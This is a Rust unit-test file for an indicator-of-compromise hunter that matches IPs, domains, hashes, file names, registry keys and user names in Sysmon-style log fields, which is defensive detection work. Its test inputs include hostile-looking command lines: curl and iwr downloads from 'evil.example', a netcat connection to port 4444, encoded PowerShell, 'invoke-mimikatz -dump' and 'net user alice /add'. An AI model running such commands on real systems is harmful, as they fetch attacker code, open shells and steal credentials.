use super::*;
use crate::canonicalize;

fn hunter(iocs: &[(IocType, &str)]) -> Hunter {
    let list: Vec<Indicator> = iocs
        .iter()
        .map(|(kind, value)| Indicator {
            ioc_type: *kind,
            value: canonicalize(*kind, value).unwrap_or_else(|e| panic!("{value}: {e}")),
        })
        .collect();
    Hunter::new(&list)
}

/// (IOC index, field, matched) of every hit.
fn hits(hunter: &Hunter, fields: &[(&str, &str)]) -> Vec<(u32, String, String)> {
    let mut found = Vec::new();
    hunter.hunt(fields, &mut found);
    let mut out: Vec<_> = found
        .into_iter()
        .map(|h| (h.ioc, h.field.to_string(), h.matched.to_string()))
        .collect();
    out.sort();
    out
}

fn found(hunter: &Hunter, fields: &[(&str, &str)]) -> Vec<u32> {
    let mut ids: Vec<u32> = hits(hunter, fields).into_iter().map(|h| h.0).collect();
    ids.dedup();
    ids
}

#[test]
fn addresses_match_as_tokens_and_in_address_fields() {
    let h = hunter(&[
        (IocType::Ip, "10.0.0.5"),
        (IocType::Ip, "2001:db8::1"),
        (IocType::Cidr, "192.168.0.0/16"),
    ]);
    assert_eq!(found(&h, &[("IpAddress", "::ffff:10.0.0.5")]), vec![0]);
    assert_eq!(found(&h, &[("CommandLine", "ping 10.0.0.5 -n 1")]), vec![0]);
    assert_eq!(found(&h, &[("CommandLine", "nc 10.0.0.5:4444")]), vec![0]);
    assert_eq!(found(&h, &[("Message", "peer [2001:db8::1]:443")]), vec![1]);
    assert_eq!(
        found(&h, &[("Message", "peer 2001:db8::1:5")]),
        Vec::<u32>::new()
    );
    assert_eq!(
        found(
            &h,
            &[("CommandLine", "ping 110.0.0.5 10.0.0.50 10.0.0.5.1")]
        ),
        Vec::<u32>::new()
    );
    // Any IPv6 spelling in an address field.
    assert_eq!(
        found(&h, &[("DestinationIp", "2001:0db8:0:0:0:0:0:1")]),
        vec![1]
    );
    assert_eq!(found(&h, &[("SourceAddress", "192.168.44.2")]), vec![2]);
    assert_eq!(
        found(&h, &[("SourceAddress", "192.169.0.1")]),
        Vec::<u32>::new()
    );
    assert_eq!(found(&h, &[("DestinationIp", "10.0.0.5:445")]), vec![0]);
    // A CIDR is looked up in address fields only.
    assert_eq!(
        found(&h, &[("Message", "from 192.168.1.1")]),
        Vec::<u32>::new()
    );
    // Once per field, whichever way it was found.
    assert_eq!(hits(&h, &[("IpAddress", "10.0.0.5")]).len(), 1);
}

#[test]
fn nested_blocks_all_match() {
    let h = hunter(&[
        (IocType::Cidr, "10.0.0.0/8"),
        (IocType::Cidr, "10.1.0.0/16"),
        (IocType::Ip, "10.1.2.3"),
    ]);
    assert_eq!(found(&h, &[("DestinationIp", "10.1.2.3")]), vec![0, 1, 2]);
    assert_eq!(found(&h, &[("DestinationIp", "10.2.2.3")]), vec![0]);
}

#[test]
fn domains_match_themselves_and_subdomains_only() {
    let h = hunter(&[
        (IocType::Domain, "evil.example"),
        (IocType::Hostname, "WKSTN-01"),
    ]);
    assert_eq!(found(&h, &[("QueryName", "EVIL.example")]), vec![0]);
    assert_eq!(found(&h, &[("QueryName", "cdn.evil.example.")]), vec![0]);
    assert_eq!(
        found(&h, &[("CommandLine", "curl https://evil.example/x")]),
        vec![0]
    );
    assert_eq!(
        found(&h, &[("QueryName", "notevil.example")]),
        Vec::<u32>::new()
    );
    assert_eq!(
        found(&h, &[("QueryName", "evil.example.org")]),
        Vec::<u32>::new()
    );
    assert_eq!(found(&h, &[("Computer", "wkstn-01.corp.local")]), vec![1]);
    assert_eq!(found(&h, &[("Target", "\\\\WKSTN-01\\c$")]), vec![1]);
    assert_eq!(found(&h, &[("Computer", "wkstn-010")]), Vec::<u32>::new());
}

#[test]
fn hashes_match_by_label_in_sysmon_hashes() {
    let md5 = "a".repeat(32);
    let sha256 = "b".repeat(64);
    let h = hunter(&[
        (IocType::Md5, &md5),
        (IocType::Sha256, &sha256),
        (IocType::Imphash, &md5),
    ]);
    let hashes = format!(
        "MD5={},SHA256={},IMPHASH={}",
        md5.to_uppercase(),
        sha256.to_uppercase(),
        "c".repeat(32)
    );
    assert_eq!(found(&h, &[("Hashes", &hashes)]), vec![0, 1]);
    let imphash_only = format!("SHA1={},IMPHASH={}", "d".repeat(40), md5);
    assert_eq!(found(&h, &[("Hashes", &imphash_only)]), vec![2]);
    // Unlabelled: both 32-digit types.
    assert_eq!(found(&h, &[("Hash", &md5)]), vec![0, 2]);
    // Not inside a longer hex run.
    assert_eq!(
        found(&h, &[("Hash", &format!("{md5}0"))]),
        Vec::<u32>::new()
    );
}

#[test]
fn names_match_as_whole_path_components() {
    let h = hunter(&[
        (IocType::FileName, "evil.exe"),
        (IocType::ProcessName, "mimikatz.exe"),
        (IocType::Mutex, "Global\\EvilMutex"),
    ]);
    assert_eq!(found(&h, &[("Image", "C:\\Temp\\EVIL.exe")]), vec![0]);
    assert_eq!(
        found(&h, &[("CommandLine", "\"evil.exe\" /c whoami")]),
        vec![0]
    );
    assert_eq!(
        found(&h, &[("Image", "C:\\Temp\\notevil.exe")]),
        Vec::<u32>::new()
    );
    assert_eq!(
        found(&h, &[("Image", "C:\\Temp\\evil.exe.config")]),
        Vec::<u32>::new()
    );
    assert_eq!(
        found(&h, &[("NewProcessName", "C:\\x\\Mimikatz.exe")]),
        vec![1]
    );
    assert_eq!(
        found(
            &h,
            &[(
                "ObjectName",
                "\\Sessions\\1\\BaseNamedObjects\\Global\\EvilMutex"
            )]
        ),
        vec![2]
    );
}

#[test]
fn substrings_registry_and_urls() {
    let h = hunter(&[
        (IocType::CommandLine, "-enc JAB"),
        (
            IocType::RegistryKey,
            "HKEY_LOCAL_MACHINE\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater",
        ),
        (IocType::Url, "hxxp://evil[.]example"),
        (IocType::FilePath, "C:\\Users\\Public\\stage.ps1"),
        (IocType::Other, "Invoke-Mimikatz"),
    ]);
    assert_eq!(
        found(&h, &[("CommandLine", "powershell.exe -ENC JABzAHQA")]),
        vec![0]
    );
    assert_eq!(
        found(
            &h,
            &[(
                "TargetObject",
                "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater"
            )]
        ),
        vec![1]
    );
    assert_eq!(
        found(
            &h,
            &[(
                "ObjectName",
                "\\REGISTRY\\MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater"
            )]
        ),
        vec![1]
    );
    assert_eq!(
        found(&h, &[("CommandLine", "iwr http://evil.example -o x")]),
        vec![2]
    );
    assert_eq!(
        found(&h, &[("TargetFilename", "c:\\users\\public\\STAGE.ps1")]),
        vec![3]
    );
    assert_eq!(
        found(&h, &[("ScriptBlockText", "IEX; invoke-mimikatz -dump")]),
        vec![4]
    );
}

#[test]
fn users_match_with_or_without_domains() {
    let h = hunter(&[
        (IocType::UserName, "alice"),
        (IocType::UserName, "CORP\\bob"),
    ]);
    assert_eq!(found(&h, &[("TargetUserName", "Alice")]), vec![0]);
    assert_eq!(found(&h, &[("User", "OTHER\\alice")]), vec![0]);
    assert_eq!(found(&h, &[("User", "CORP\\Bob")]), vec![1]);
    assert_eq!(found(&h, &[("User", "OTHER\\bob")]), Vec::<u32>::new());
    assert_eq!(
        found(
            &h,
            &[("TargetUserName", "bob"), ("TargetDomainName", "CORP")]
        ),
        vec![1]
    );
    assert_eq!(
        found(
            &h,
            &[("TargetUserName", "bob"), ("TargetDomainName", "OTHER")]
        ),
        Vec::<u32>::new()
    );
    assert_eq!(
        found(
            &h,
            &[("SubjectUserName", "bob"), ("TargetDomainName", "CORP")]
        ),
        Vec::<u32>::new()
    );
    // User names are not hunted in free text (they are short, common words).
    assert_eq!(
        found(&h, &[("CommandLine", "net user alice /add")]),
        Vec::<u32>::new()
    );
}

#[test]
fn services_and_pipes_match_in_their_fields() {
    let h = hunter(&[
        (IocType::ServiceName, "PSEXESVC"),
        (IocType::NamedPipe, "\\\\.\\pipe\\msagent_12"),
    ]);
    assert_eq!(found(&h, &[("ServiceName", "psexesvc")]), vec![0]);
    assert_eq!(found(&h, &[("ImagePath", "PSEXESVC")]), Vec::<u32>::new());
    assert_eq!(found(&h, &[("PipeName", "\\MSAgent_12")]), vec![1]);
    assert_eq!(
        found(&h, &[("PipeName", "\\msagent_123")]),
        Vec::<u32>::new()
    );
}

#[test]
fn overlapping_values_all_match_and_matched_text_keeps_case() {
    let h = hunter(&[
        (IocType::Domain, "evil.example"),
        (IocType::Domain, "a.evil.example"),
        (IocType::Other, "A.EVIL"),
    ]);
    let found = hits(&h, &[("QueryName", "A.Evil.Example")]);
    assert_eq!(
        found,
        vec![
            (0, "QueryName".into(), "Evil.Example".into()),
            (1, "QueryName".into(), "A.Evil.Example".into()),
            (2, "QueryName".into(), "A.Evil".into()),
        ]
    );
}

#[test]
fn one_value_shared_by_types_reports_each_ioc() {
    let h = hunter(&[
        (IocType::Domain, "evil.example"),
        (IocType::Other, "evil.example"),
    ]);
    assert_eq!(found(&h, &[("QueryName", "evil.example")]), vec![0, 1]);
    // `other` is a plain substring; the domain needs its boundaries.
    assert_eq!(found(&h, &[("QueryName", "notevil.example")]), vec![1]);
}

#[test]
fn an_empty_hunter_finds_nothing() {
    let h = Hunter::new(&[]);
    assert!(h.is_empty());
    assert_eq!(found(&h, &[("CommandLine", "anything")]), Vec::<u32>::new());
}

#[test]
fn many_iocs_compile_and_hunt() {
    let iocs: Vec<Indicator> = (0..100_000u32)
        .map(|i| Indicator {
            ioc_type: IocType::Domain,
            value: format!("host{i}.bad.example"),
        })
        .collect();
    let h = Hunter::new(&iocs);
    assert_eq!(
        found(&h, &[("QueryName", "host99999.bad.example")]),
        vec![99_999]
    );
    assert_eq!(
        found(&h, &[("QueryName", "host100000.bad.example")]),
        Vec::<u32>::new()
    );
}

#[test]
fn large_sets_find_what_small_sets_find() {
    // The same IOCs hunted alone (one automaton) and among thousands of others (the
    // anchored search): the same hits.
    let mine: Vec<(IocType, &str)> = vec![
        (IocType::Ip, "10.0.0.5"),
        (IocType::Domain, "evil.example"),
        (IocType::Hostname, "pc"),
        (
            IocType::Sha256,
            "ebe94e294d86c714bed13ef018e70f75c37f8d8259144c0c847637edc0222ecb",
        ),
        (IocType::FileName, "a.exe"),
        (IocType::CommandLine, "-enc JAB"),
        (IocType::RegistryKey, "HKLM\\Software\\Run\\X"),
        (IocType::Other, "Mimi"),
    ];
    let fillers: Vec<(IocType, String)> = (0..3000)
        .map(|i| (IocType::Other, format!("filler-{i}-zq")))
        .collect();
    let mut all: Vec<(IocType, &str)> = mine.clone();
    all.extend(fillers.iter().map(|(k, v)| (*k, v.as_str())));
    let small = hunter(&mine);
    let large = hunter(&all);
    for text in [
        "ping 10.0.0.5 and 110.0.0.5",
        "a.evil.example evil.example.org",
        "\\\\PC\\c$ pc.corp.local PC2",
        "SHA256=EBE94E294D86C714BED13EF018E70F75C37F8D8259144C0C847637EDC0222ECB,IMPHASH=00",
        "C:\\x\\a.exe b.a.exe",
        "powershell -ENC JABzAH -enc jab",
        "HKLM\\SOFTWARE\\Run\\X",
        "Invoke-MIMIKATZ mimi",
        "filler-12-zq",
    ] {
        let fields = [("CommandLine", text), ("Computer", text)];
        let want = hits(&small, &fields);
        let got: Vec<_> = hits(&large, &fields)
            .into_iter()
            .filter(|(ioc, _, _)| (*ioc as usize) < mine.len())
            .collect();
        assert_eq!(got, want, "{text}");
    }
}
